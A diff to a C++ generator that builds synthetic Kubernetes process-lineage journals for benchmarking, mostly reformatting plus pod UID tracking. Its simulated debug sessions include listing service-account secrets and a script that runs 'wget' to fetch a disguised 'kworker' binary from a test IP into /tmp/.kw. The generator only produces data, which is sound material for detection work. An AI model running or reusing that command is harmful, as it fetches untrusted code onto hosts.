@@ -63,8 +63,9 @@
 
 #include <fmt/format.h>
 
-#include "journal_writer.h"
 #include "journal_format.h"
+#include "journal_writer.h"
+#include "pod.h"
 #include "sqlite.h"
 
 namespace lineage::bench {
@@ -170,6 +171,7 @@ std::string comm_of(const std::string& binary) {
 // Where a process runs: its cgroup, UTS host name and pid namespace.
 struct Context {
     std::string cgroup_path;
+    std::string pod_uid;  // of cgroup_path, as the recorder works it out
     uint64_t cgroup_id = 0;
     std::string nodename;
     int pod = -1;
@@ -241,7 +243,20 @@ struct Activity {
 };
 using ActivityPtr = std::shared_ptr<Activity>;
 
-enum class Act : uint8_t { spawn, exec, exit, connect, pod_start, pod_tick, pod_end, host_tick, clock, run_start, run_stop, loss };
+enum class Act : uint8_t {
+    spawn,
+    exec,
+    exit,
+    connect,
+    pod_start,
+    pod_tick,
+    pod_end,
+    host_tick,
+    clock,
+    run_start,
+    run_stop,
+    loss
+};
 
 struct Action {
     uint64_t t = 0;
@@ -257,11 +272,16 @@ enum class PodKind : uint8_t { service, job, ci, crashloop, debug };
 
 const char* kind_name(PodKind k) {
     switch (k) {
-        case PodKind::service: return "service";
-        case PodKind::job: return "job";
-        case PodKind::ci: return "ci";
-        case PodKind::crashloop: return "crashloop";
-        case PodKind::debug: return "debug";
+        case PodKind::service:
+            return "service";
+        case PodKind::job:
+            return "job";
+        case PodKind::ci:
+            return "ci";
+        case PodKind::crashloop:
+            return "crashloop";
+        case PodKind::debug:
+            return "debug";
     }
     return "?";
 }
@@ -269,7 +289,7 @@ const char* kind_name(PodKind k) {
 struct AppImage {
     std::string binary;
     std::vector<std::string> args;
-    int workers = 0;  // forked without exec (prefork servers)
+    int workers = 0;    // forked without exec (prefork servers)
     std::string probe;  // "" = no exec probe
     std::string probe_tool;
     uint16_t port = 8080;
@@ -389,6 +409,7 @@ private:
 int Generator::new_context(std::string cgroup, std::string nodename, int pod, bool own_pidns) {
     Context c;
     c.cgroup_path = std::move(cgroup);
+    if (auto kube = parse_kube_cgroup(c.cgroup_path)) c.pod_uid = kube->pod_uid;
     c.cgroup_id = 3000 + contexts_.size() * 7;
     c.nodename = std::move(nodename);
     c.pod = pod;
@@ -399,32 +420,59 @@ int Generator::new_context(std::string cgroup, std::string nodename, int pod, bo
 
 void Generator::make_pods() {
     images_ = {
-        {"/usr/local/bin/api-server", {"--port=8080", "--config=/etc/api/config.yaml", "--log-level=info"}, 0,
-         "curl -fsS http://127.0.0.1:8080/healthz", "/usr/bin/curl", 8080},
-        {"/usr/bin/python3", {"-m", "gunicorn", "app.wsgi:application", "-w", "4", "-b", "0.0.0.0:8000"}, 4,
-         "python3 /app/healthcheck.py", "/usr/bin/python3", 8000},
-        {"/usr/bin/java", {"-Xmx768m", "-XX:+UseG1GC", "-jar", "/app/orders-service.jar", "--spring.profiles.active=prod"}, 0,
-         "", "", 8080},
+        {"/usr/local/bin/api-server",
+         {"--port=8080", "--config=/etc/api/config.yaml", "--log-level=info"},
+         0,
+         "curl -fsS http://127.0.0.1:8080/healthz",
+         "/usr/bin/curl",
+         8080},
+        {"/usr/bin/python3",
+         {"-m", "gunicorn", "app.wsgi:application", "-w", "4", "-b", "0.0.0.0:8000"},
+         4,
+         "python3 /app/healthcheck.py",
+         "/usr/bin/python3",
+         8000},
+        {"/usr/bin/java",
+         {"-Xmx768m", "-XX:+UseG1GC", "-jar", "/app/orders-service.jar", "--spring.profiles.active=prod"},
+         0,
+         "",
+         "",
+         8080},
         {"/docker-entrypoint.sh", {"nginx", "-g", "daemon off;"}, 2, "", "", 80},
-        {"/usr/local/bin/redis-server", {"*:6379"}, 0, "redis-cli -h 127.0.0.1 ping", "/usr/local/bin/redis-cli",
-         6379},
-        {"/usr/lib/postgresql/15/bin/postgres", {"-D", "/var/lib/postgresql/data", "-c", "max_connections=200"}, 3,
-         "pg_isready -U postgres -h 127.0.0.1 -p 5432", "/usr/lib/postgresql/15/bin/pg_isready", 5432},
-        {"/usr/local/bin/node", {"/app/dist/server.js"}, 0, "wget -qO- http://127.0.0.1:3000/ready", "/usr/bin/wget",
+        {"/usr/local/bin/redis-server", {"*:6379"}, 0, "redis-cli -h 127.0.0.1 ping", "/usr/local/bin/redis-cli", 6379},
+        {"/usr/lib/postgresql/15/bin/postgres",
+         {"-D", "/var/lib/postgresql/data", "-c", "max_connections=200"},
+         3,
+         "pg_isready -U postgres -h 127.0.0.1 -p 5432",
+         "/usr/lib/postgresql/15/bin/pg_isready",
+         5432},
+        {"/usr/local/bin/node",
+         {"/app/dist/server.js"},
+         0,
+         "wget -qO- http://127.0.0.1:3000/ready",
+         "/usr/bin/wget",
          3000},
-        {"/bin/prometheus", {"--config.file=/etc/prometheus/prometheus.yml", "--storage.tsdb.path=/prometheus"}, 0,
-         "", "", 9090},
-        {"/usr/local/bin/envoy", {"-c", "/etc/envoy/envoy.yaml", "--service-cluster", "edge"}, 0,
-         "curl -fsS http://127.0.0.1:9901/ready", "/usr/bin/curl", 9901},
+        {"/bin/prometheus",
+         {"--config.file=/etc/prometheus/prometheus.yml", "--storage.tsdb.path=/prometheus"},
+         0,
+         "",
+         "",
+         9090},
+        {"/usr/local/bin/envoy",
+         {"-c", "/etc/envoy/envoy.yaml", "--service-cluster", "edge"},
+         0,
+         "curl -fsS http://127.0.0.1:9901/ready",
+         "/usr/bin/curl",
+         9901},
         {"/app/worker", {"--queue=payments", "--concurrency=8"}, 0, "cat /tmp/healthy", "/bin/cat", 0},
     };
-    const std::vector<std::string> namespaces = {"prod", "payments", "staging", "monitoring", "default", "data",
-                                                 "kube-system", "ci", "batch", "tools"};
+    const std::vector<std::string> namespaces = {"prod", "payments",    "staging", "monitoring", "default",
+                                                 "data", "kube-system", "ci",      "batch",      "tools"};
     const std::vector<std::string> deployments = {
-        "api",        "web",       "orders",   "checkout", "search",     "auth",     "catalog",   "gateway",
-        "ingest",     "billing",   "mailer",   "notifier", "reporting",  "cache",    "session",   "ledger",
-        "inventory",  "pricing",   "shipping", "metrics",  "frontend",   "backend",  "profile",   "images",
-        "thumbnails", "analytics", "events",   "audit",    "scheduler",  "exporter", "collector", "proxy"};
+        "api",        "web",       "orders",   "checkout", "search",    "auth",     "catalog",   "gateway",
+        "ingest",     "billing",   "mailer",   "notifier", "reporting", "cache",    "session",   "ledger",
+        "inventory",  "pricing",   "shipping", "metrics",  "frontend",  "backend",  "profile",   "images",
+        "thumbnails", "analytics", "events",   "audit",    "scheduler", "exporter", "collector", "proxy"};
     const uint64_t span = static_cast<uint64_t>(o_.days) * kDay;
     pods_.resize(static_cast<size_t>(o_.pods));
     for (auto& p : pods_) {
@@ -592,7 +640,7 @@ void Generator::do_spawn(const Action& x) {
         e.child = {p->tgid, p->start_ns};
         e.parent_comm = parent->comm;
         before_row(x.t);
-        if (writer_) check(writer_->add(e));
+        if (writer_) check(writer_->add(e, ""));
         after_row();
         count_event(a.fixed);
         ++stats.forks;
@@ -645,7 +693,7 @@ void Generator::do_exec(const Action& x) {
     e.binary = img.binary;
     e.argv = img.argv;
     before_row(x.t);
-    if (writer_) check(writer_->add(e));
+    if (writer_) check(writer_->add(e, c.pod_uid));
     count_event(a.fixed);
     ++stats.execs;
     if (c.pod >= 0 && !pod_named_[static_cast<size_t>(c.pod)]) {
@@ -673,7 +721,7 @@ void Generator::do_exit(const ProcPtr& p, int code, int sig, uint64_t t, bool fi
     e.core_dumped = sig == 11 || sig == 6;
     e.comm = p->comm;
     before_row(t);
-    if (writer_) check(writer_->add(e));
+    if (writer_) check(writer_->add(e, ""));
     after_row();
     count_event(fixed);
     ++stats.exits;
@@ -694,7 +742,7 @@ void Generator::do_connect(const Action& x) {
     e.dport = n.dport;
     e.established = !rng_.chance(0.03);
     before_row(x.t);
-    if (writer_) check(writer_->add(e));
+    if (writer_) check(writer_->add(e, ""));
     after_row();
     count_event(x.act->fixed);
     ++stats.connects;
@@ -710,7 +758,8 @@ std::string sandbox_ctx_path(const Pod& p, const std::string& container_id) {
     std::string uid = p.uid;
     std::replace(uid.begin(), uid.end(), '-', '_');
     std::string qos_slice = p.qos.empty() ? "" : "/kubepods-" + p.qos + ".slice";
-    std::string pod_slice = p.qos.empty() ? "kubepods-pod" + uid + ".slice" : "kubepods-" + p.qos + "-pod" + uid + ".slice";
+    std::string pod_slice =
+        p.qos.empty() ? "kubepods-pod" + uid + ".slice" : "kubepods-" + p.qos + "-pod" + uid + ".slice";
     return "/kubepods.slice" + qos_slice + "/" + pod_slice + "/cri-containerd-" + container_id + ".scope";
 }
 
@@ -728,16 +777,17 @@ ActivityPtr Generator::sandbox_activity(int pod) {
                        {img(300'000, kShim,
                             argv_of({kShim, "-namespace", "k8s.io", "-address", "/run/containerd/containerd.sock",
                                      "-publish-binary", "/usr/bin/containerd", "-id", sandbox, "start"}))});
-    int shim2 = a->add(shim1, 3 * kMs, kForever, ctx_containerd_, 0,
-                       {img(300'000, kShim, argv_of({kShim, "-namespace", "k8s.io", "-id", sandbox, "-address",
-                                                     "/run/containerd/containerd.sock"}))});
+    int shim2 = a->add(
+        shim1, 3 * kMs, kForever, ctx_containerd_, 0,
+        {img(300'000, kShim,
+             argv_of({kShim, "-namespace", "k8s.io", "-id", sandbox, "-address", "/run/containerd/containerd.sock"}))});
     a->nodes[static_cast<size_t>(shim2)].role = kRoleShim;
     std::string bundle = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + sandbox;
-    int runc = a->add(shim2, 20 * kMs, 80 * kMs, ctx_containerd_, 0,
-                      {img(200'000, kRunc,
-                           argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "--log", bundle + "/log.json",
-                                    "--log-format", "json", "create", "--bundle", bundle, "--pid-file",
-                                    bundle + "/init.pid", sandbox}))});
+    int runc = a->add(
+        shim2, 20 * kMs, 80 * kMs, ctx_containerd_, 0,
+        {img(200'000, kRunc,
+             argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "--log", bundle + "/log.json", "--log-format",
+                      "json", "create", "--bundle", bundle, "--pid-file", bundle + "/init.pid", sandbox}))});
     int pause = a->add(runc, 10 * kMs, kForever, p.pause_ctx, 65535,
                        {img(200'000, kRunc, argv_of({"runc", "init"})), img(40 * kMs, "/pause", argv_of({"/pause"}))});
     a->nodes[static_cast<size_t>(pause)].role = kRolePause;
@@ -754,12 +804,15 @@ ActivityPtr Generator::container_activity(int pod, int container, int ctx, uint6
     const std::string cid = contexts_[static_cast<size_t>(ctx)].cgroup_path.substr(
         contexts_[static_cast<size_t>(ctx)].cgroup_path.rfind('-') + 1, 64);
     std::string bundle = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + cid;
-    int runc = a->add(-1, at, 90 * kMs, ctx_containerd_, 0,
-                      {img(200'000, kRunc,
-                           argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "--log", bundle + "/log.json",
-                                    "--log-format", "json", "create", "--bundle", bundle, "--pid-file",
-                                    bundle + "/init.pid", cid}))});
-    AppImage app = container == 0 ? p.app : AppImage{"/usr/local/bin/fluent-bit", {"-c", "/fluent-bit/etc/fluent-bit.conf"}, 0, "", "", 2020};
+    int runc = a->add(
+        -1, at, 90 * kMs, ctx_containerd_, 0,
+        {img(200'000, kRunc,
+             argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "--log", bundle + "/log.json", "--log-format",
+                      "json", "create", "--bundle", bundle, "--pid-file", bundle + "/init.pid", cid}))});
+    AppImage app =
+        container == 0
+            ? p.app
+            : AppImage{"/usr/local/bin/fluent-bit", {"-c", "/fluent-bit/etc/fluent-bit.conf"}, 0, "", "", 2020};
     std::vector<std::string> args = {app.binary};
     args.insert(args.end(), app.args.begin(), app.args.end());
     uint64_t life = kForever;
@@ -788,8 +841,8 @@ ActivityPtr Generator::container_activity(int pod, int container, int ctx, uint6
         m.dport = 5432;
     }
     for (int w = 0; w < app.workers; ++w) {
-        int wk = a->add(main, 1500 * kMs + static_cast<uint64_t>(w) * 7 * kMs, life == kForever ? kForever : life / 2, ctx,
-                        1000, {});
+        int wk = a->add(main, 1500 * kMs + static_cast<uint64_t>(w) * 7 * kMs, life == kForever ? kForever : life / 2,
+                        ctx, 1000, {});
         a->nodes[static_cast<size_t>(wk)].role = kRoleWorker;
         a->nodes[static_cast<size_t>(wk)].container = container;
     }
@@ -804,14 +857,13 @@ ActivityPtr Generator::probe_activity(int pod) {
     int ctx = p.container_ctx[0];
     const std::string cid = contexts_[static_cast<size_t>(ctx)].cgroup_path.substr(
         contexts_[static_cast<size_t>(ctx)].cgroup_path.rfind('-') + 1, 64);
-    int runc = a->add(-1, 0, 70 * kMs, ctx_containerd_, 0,
-                      {img(200'000, kRunc,
-                           argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "exec", "--process",
-                                    "/tmp/runc-process" + std::to_string(rng_.between(100000000, 999999999)),
-                                    "--detach", "--pid-file",
-                                    "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + cid + "/" + rng_.hex(64) +
-                                        ".pid",
-                                    cid}))});
+    int runc = a->add(
+        -1, 0, 70 * kMs, ctx_containerd_, 0,
+        {img(200'000, kRunc,
+             argv_of(
+                 {"runc", "--root", "/run/containerd/runc/k8s.io", "exec", "--process",
+                  "/tmp/runc-process" + std::to_string(rng_.between(100000000, 999999999)), "--detach", "--pid-file",
+                  "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + cid + "/" + rng_.hex(64) + ".pid", cid}))});
     int sh = a->add(runc, 9 * kMs, 45 * kMs, ctx, 1000,
                     {img(200'000, kRunc, argv_of({"runc", "init"})),
                      img(6 * kMs, "/bin/sh", argv_of({"/bin/sh", "-c", p.app.probe}))});
@@ -904,13 +956,14 @@ uint64_t Generator::build_make(Activity& a, int parent, uint64_t at, int ctx, in
         uint64_t compile = rng_.log_uniform(80 * kMs, 3 * kSec);
         int sh = a.add(make, lane[l], compile + 8 * kMs, ctx, 1000,
                        {img(250'000, "/bin/sh", argv_of({"/bin/sh", "-c", gcc_cmd}))});
-        int gcc = a.add(sh, 2 * kMs, compile + 4 * kMs, ctx, 1000,
-                        {img(250'000, "/usr/bin/gcc",
-                             argv_of({"gcc", "-O2", "-g", "-Wall", "-Iinclude", "-c", src, "-o", obj}))});
-        a.add(gcc, 1 * kMs, compile * 3 / 4, ctx, 1000,
-              {img(200'000, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
-                   argv_of({"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "-Iinclude", src, "-quiet", "-dumpbase",
-                            comm_of(src), "-mtune=generic", "-march=x86-64", "-O2", "-Wall", "-o", "/tmp/ccA1b2C3.s"}))});
+        int gcc = a.add(
+            sh, 2 * kMs, compile + 4 * kMs, ctx, 1000,
+            {img(250'000, "/usr/bin/gcc", argv_of({"gcc", "-O2", "-g", "-Wall", "-Iinclude", "-c", src, "-o", obj}))});
+        a.add(
+            gcc, 1 * kMs, compile * 3 / 4, ctx, 1000,
+            {img(200'000, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
+                 argv_of({"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "-Iinclude", src, "-quiet", "-dumpbase",
+                          comm_of(src), "-mtune=generic", "-march=x86-64", "-O2", "-Wall", "-o", "/tmp/ccA1b2C3.s"}))});
         a.add(gcc, compile * 3 / 4 + 2 * kMs, compile / 4, ctx, 1000,
               {img(200'000, "/usr/bin/as", argv_of({"as", "--64", "-o", obj, "/tmp/ccA1b2C3.s"}))});
         lane[l] += compile + 10 * kMs;
@@ -926,7 +979,8 @@ uint64_t Generator::build_make(Activity& a, int parent, uint64_t at, int ctx, in
                                  argv_of({"/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "-plugin", "--eh-frame-hdr",
                                           "-m", "elf_x86_64", "-o", "build/app"}))});
         a.add(collect, 2 * kMs, link - 4 * kMs, ctx, 1000,
-              {img(200'000, "/usr/bin/ld", argv_of({"/usr/bin/ld", "--eh-frame-hdr", "-m", "elf_x86_64", "-o", "build/app"}))});
+              {img(200'000, "/usr/bin/ld",
+                   argv_of({"/usr/bin/ld", "--eh-frame-hdr", "-m", "elf_x86_64", "-o", "build/app"}))});
         end += link + 10 * kMs;
     }
     a.nodes[static_cast<size_t>(make)].life = end + 5 * kMs;
@@ -944,10 +998,12 @@ ActivityPtr Generator::ci_build_activity(int pod) {
     }
     a->pod = pod;
     int ctx = p.container_ctx[0];
-    int bash = a->add(-1, 0, 0, ctx, 1000,
-                      {img(300'000, "/bin/bash", argv_of({"/bin/bash", "-c", "set -eo pipefail; ./ci/build.sh && ./ci/test.sh"}))});
-    int git = a->add(bash, 5 * kMs, 0, ctx, 1000,
-                     {img(300'000, "/usr/bin/git", argv_of({"git", "fetch", "--depth", "50", "origin", "+refs/heads/main"}))});
+    int bash = a->add(
+        -1, 0, 0, ctx, 1000,
+        {img(300'000, "/bin/bash", argv_of({"/bin/bash", "-c", "set -eo pipefail; ./ci/build.sh && ./ci/test.sh"}))});
+    int git = a->add(
+        bash, 5 * kMs, 0, ctx, 1000,
+        {img(300'000, "/usr/bin/git", argv_of({"git", "fetch", "--depth", "50", "origin", "+refs/heads/main"}))});
     uint64_t fetch = rng_.between(300 * kMs, 4 * kSec);
     int remote = a->add(git, 4 * kMs, fetch, ctx, 1000,
                         {img(200'000, "/usr/lib/git-core/git-remote-https",
@@ -1031,8 +1087,9 @@ ActivityPtr Generator::debug_session_activity(int pod) {
                            argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "exec", "--process",
                                     "/tmp/runc-process" + std::to_string(rng_.between(100000000, 999999999)),
                                     "--console-socket", "/tmp/pty.sock", "--detach", cid}))});
-    int bash = a->add(runc, 9 * kMs, session, ctx, 0,
-                      {img(200'000, kRunc, argv_of({"runc", "init"})), img(6 * kMs, "/bin/bash", argv_of({"/bin/bash"}))});
+    int bash =
+        a->add(runc, 9 * kMs, session, ctx, 0,
+               {img(200'000, kRunc, argv_of({"runc", "init"})), img(6 * kMs, "/bin/bash", argv_of({"/bin/bash"}))});
     static const std::vector<std::vector<std::string>> cmds = {
         {"/bin/ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"},
         {"/bin/cat", "/etc/resolv.conf"},
@@ -1060,9 +1117,11 @@ ActivityPtr Generator::debug_session_activity(int pod) {
         if (cmd[0] == "/bin/chmod" && rng_.chance(0.7)) {
             // ./x.sh: a script that fetches and starts more.
             uint64_t run = rng_.between(1 * kSec, 20 * kSec);
-            int sh = a->add(bash, t + life + 1 * kSec, run, ctx, 0, {img(250'000, "/bin/sh", argv_of({"sh", "/tmp/x.sh"}))});
+            int sh =
+                a->add(bash, t + life + 1 * kSec, run, ctx, 0, {img(250'000, "/bin/sh", argv_of({"sh", "/tmp/x.sh"}))});
             int w = a->add(sh, 10 * kMs, run / 3, ctx, 0,
-                           {img(250'000, "/usr/bin/wget", argv_of({"wget", "-q", "http://203.0.113.50/kworker", "-O", "/tmp/.kw"}))});
+                           {img(250'000, "/usr/bin/wget",
+                                argv_of({"wget", "-q", "http://203.0.113.50/kworker", "-O", "/tmp/.kw"}))});
             a->nodes[static_cast<size_t>(w)].connects = 1;
             a->nodes[static_cast<size_t>(w)].daddr = "203.0.113.50";
             a->nodes[static_cast<size_t>(w)].dport = 80;
@@ -1094,11 +1153,13 @@ ActivityPtr Generator::cron_activity() {
     uint64_t life = rng_.log_uniform(10 * kMs, 5 * kSec);
     // cron forks a child of itself (no exec), which runs the shell.
     int child = a->add(-1, 0, life + 30 * kMs, ctx_cron_, 0, {});
-    int sh = a->add(child, 2 * kMs, life + 15 * kMs, ctx_cron_, 0, {img(300'000, "/bin/sh", argv_of({"/bin/sh", "-c", cmd}))});
+    int sh = a->add(child, 2 * kMs, life + 15 * kMs, ctx_cron_, 0,
+                    {img(300'000, "/bin/sh", argv_of({"/bin/sh", "-c", cmd}))});
     int tool = a->add(sh, 3 * kMs, life, ctx_cron_, 0, {img(300'000, job[0], argv_of(job))});
     if (job[0] == "/usr/lib/sysstat/debian-sa1") {
         a->add(tool, 2 * kMs, life / 2, ctx_cron_, 0,
-               {img(300'000, "/usr/lib/sysstat/sadc", argv_of({"/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"}))});
+               {img(300'000, "/usr/lib/sysstat/sadc",
+                    argv_of({"/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"}))});
     }
     return a;
 }
@@ -1107,8 +1168,8 @@ ActivityPtr Generator::kubelet_mount_activity(int pod) {
     const Pod& p = pods_[static_cast<size_t>(pod)];
     auto a = std::make_shared<Activity>();
     a->anchor = kubelet_;
-    std::string target = "/var/lib/kubelet/pods/" + p.uid + "/volumes/kubernetes.io~projected/kube-api-access-" +
-                         rng_.alnum(5);
+    std::string target =
+        "/var/lib/kubelet/pods/" + p.uid + "/volumes/kubernetes.io~projected/kube-api-access-" + rng_.alnum(5);
     a->add(-1, 0, 4 * kMs, ctx_kubelet_, 0,
            {img(200'000, "/usr/bin/mount", argv_of({"mount", "-t", "tmpfs", "-o", "size=16G", "tmpfs", target}))});
     return a;
@@ -1141,16 +1202,25 @@ void Generator::pod_start(int pod, uint64_t t) {
     }
     // The app containers start once the shim lives (pod_tick 100 does it).
     push(t + 1 * kSec, Act::pod_tick, nullptr, pod, 100);
-    auto arm = [&](int which, double every) { push(t + 5 * kSec + rng_.exp_ns(every / scale_), Act::pod_tick, nullptr, pod, which); };
+    auto arm = [&](int which, double every) {
+        push(t + 5 * kSec + rng_.exp_ns(every / scale_), Act::pod_tick, nullptr, pod, which);
+    };
     switch (p.kind) {
         case PodKind::service:
             if (!p.app.probe.empty()) arm(0, kProbeEvery);
             arm(1, kAppJobEvery);
             break;
-        case PodKind::job: arm(3, kJobStepEvery); break;
-        case PodKind::ci: arm(2, kCiBuildEvery); break;
-        case PodKind::crashloop: break;
-        case PodKind::debug: arm(4, kDebugSessionEvery); break;
+        case PodKind::job:
+            arm(3, kJobStepEvery);
+            break;
+        case PodKind::ci:
+            arm(2, kCiBuildEvery);
+            break;
+        case PodKind::crashloop:
+            break;
+        case PodKind::debug:
+            arm(4, kDebugSessionEvery);
+            break;
     }
 }
 
@@ -1163,7 +1233,8 @@ void Generator::pod_tick(int pod, int which, uint64_t t) {
     }
     if (which == 100) {
         for (int c = 0; c < p.containers; ++c) {
-            auto a = container_activity(pod, c, p.container_ctx[static_cast<size_t>(c)], 400 * kMs * static_cast<uint64_t>(c));
+            auto a = container_activity(pod, c, p.container_ctx[static_cast<size_t>(c)],
+                                        400 * kMs * static_cast<uint64_t>(c));
             a->fixed = true;
             launch(a, t);
         }
@@ -1183,18 +1254,35 @@ void Generator::pod_tick(int pod, int which, uint64_t t) {
             note_pod_activity(pod, t);
         }
         uint64_t backoff = std::min<uint64_t>(5 * kMin, 10 * kSec << std::min(p.restarts, 5));
-        push(t + static_cast<uint64_t>(static_cast<double>(backoff) / std::max(scale_, 0.05)), Act::pod_tick, nullptr, pod, 101);
+        push(t + static_cast<uint64_t>(static_cast<double>(backoff) / std::max(scale_, 0.05)), Act::pod_tick, nullptr,
+             pod, 101);
         return;
     }
     ActivityPtr a;
     double every = 0;
     switch (which) {
-        case 0: a = probe_activity(pod); every = kProbeEvery; break;
-        case 1: a = app_job_activity(pod); every = kAppJobEvery; break;
-        case 2: a = ci_build_activity(pod); every = kCiBuildEvery; break;
-        case 3: a = job_step_activity(pod); every = kJobStepEvery; break;
-        case 4: a = debug_session_activity(pod); every = kDebugSessionEvery; break;
-        default: return;
+        case 0:
+            a = probe_activity(pod);
+            every = kProbeEvery;
+            break;
+        case 1:
+            a = app_job_activity(pod);
+            every = kAppJobEvery;
+            break;
+        case 2:
+            a = ci_build_activity(pod);
+            every = kCiBuildEvery;
+            break;
+        case 3:
+            a = job_step_activity(pod);
+            every = kJobStepEvery;
+            break;
+        case 4:
+            a = debug_session_activity(pod);
+            every = kDebugSessionEvery;
+            break;
+        default:
+            return;
     }
     if (a && a->anchor) launch(a, t);
     push(t + rng_.exp_ns(every / scale_), Act::pod_tick, nullptr, pod, which);
@@ -1245,7 +1333,7 @@ void Generator::write_snapshot(uint64_t t) {
         row.cgroup_path = c.cgroup_path;
         row.nodename = c.nodename;
         before_row(t);
-        if (writer_) check(writer_->add_snapshot(row));
+        if (writer_) check(writer_->add_snapshot(row, c.pod_uid));
         ++stats.snapshot;
     }
 }
@@ -1297,9 +1385,10 @@ void Generator::start_boot(int boot) {
     daemon(3 * kSec, ctx_system_, "/usr/sbin/sshd", {"-D"});
     cron_ = daemon(3 * kSec + 200 * kMs, ctx_cron_, "/usr/sbin/cron", {"-f"});
     containerd_ = daemon(4 * kSec, ctx_containerd_, "/usr/bin/containerd", {});
-    kubelet_ = daemon(5 * kSec, ctx_kubelet_, "/usr/bin/kubelet",
-                      {"--config=/var/lib/kubelet/config.yaml", "--container-runtime-endpoint=unix:///run/containerd/containerd.sock",
-                       "--kubeconfig=/etc/kubernetes/kubelet.conf", "--node-ip=10.20.31.47"});
+    kubelet_ = daemon(
+        5 * kSec, ctx_kubelet_, "/usr/bin/kubelet",
+        {"--config=/var/lib/kubelet/config.yaml", "--container-runtime-endpoint=unix:///run/containerd/containerd.sock",
+         "--kubeconfig=/etc/kubernetes/kubelet.conf", "--node-ip=10.20.31.47"});
 
     // The recorder: started 30 s after boot, restarted mid-quarter.
     uint64_t mid = boot_len_ / 2 + rng_.below(boot_len_ / 4);
@@ -1335,8 +1424,12 @@ void Generator::run() {
             heap_.pop();
             if (x.t >= boot_len_) continue;  // the reboot ends everything
             switch (x.kind) {
-                case Act::spawn: do_spawn(x); break;
-                case Act::exec: do_exec(x); break;
+                case Act::spawn:
+                    do_spawn(x);
+                    break;
+                case Act::exec:
+                    do_exec(x);
+                    break;
                 case Act::exit:
                     if (x.proc) {
                         // Ended with its pod: b is the signal (0: exited).
@@ -1346,11 +1439,21 @@ void Generator::run() {
                         if (!n.skipped) do_exit(n.proc, n.code, n.sig, x.t, x.act->fixed);
                     }
                     break;
-                case Act::connect: do_connect(x); break;
-                case Act::pod_start: pod_start(x.a, x.t); break;
-                case Act::pod_tick: pod_tick(x.a, x.b, x.t); break;
-                case Act::pod_end: pod_end(x.a, x.t); break;
-                case Act::host_tick: host_tick(x.a, x.t); break;
+                case Act::connect:
+                    do_connect(x);
+                    break;
+                case Act::pod_start:
+                    pod_start(x.a, x.t);
+                    break;
+                case Act::pod_tick:
+                    pod_tick(x.a, x.b, x.t);
+                    break;
+                case Act::pod_end:
+                    pod_end(x.a, x.t);
+                    break;
+                case Act::host_tick:
+                    host_tick(x.a, x.t);
+                    break;
                 case Act::clock:
                     if (recording_) {
                         ++stats.clock;
@@ -1393,8 +1496,9 @@ void Generator::run() {
                         info.started_wall_ns = wall(x.t);
                         info.version = "0.1.0";
                         info.kernel = "6.1.0-27-cloud-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.115-1 (2024-11-01)";
-                        info.hooks = "tp_btf/sched_process_fork,tp_btf/sched_process_exec,tp_btf/sched_process_exit,"
-                                     "tp_btf/inet_sock_set_state";
+                        info.hooks =
+                            "tp_btf/sched_process_fork,tp_btf/sched_process_exec,tp_btf/sched_process_exit,"
+                            "tp_btf/inet_sock_set_state";
                         info.argv_cap = 4096;
                         info.clk_tck = 100;
                         info.recorder_pid = 0;
@@ -1511,7 +1615,8 @@ int main(int argc, char** argv) {
         double variable = static_cast<double>(dry.events() - dry.fixed_events());
         double want = static_cast<double>(o.events) - static_cast<double>(dry.fixed_events());
         if (variable > 0 && want > 0) scale = want / variable;
-        fmt::print(stderr, "bench_gen_journal: calibration: {} events at scale 1 ({} lifecycle), scale {:.4f} ({:.1f}s)\n",
+        fmt::print(stderr,
+                   "bench_gen_journal: calibration: {} events at scale 1 ({} lifecycle), scale {:.4f} ({:.1f}s)\n",
                    dry.events(), dry.fixed_events(), scale, seconds_since(t0));
     }
     if (o.dry_run) {
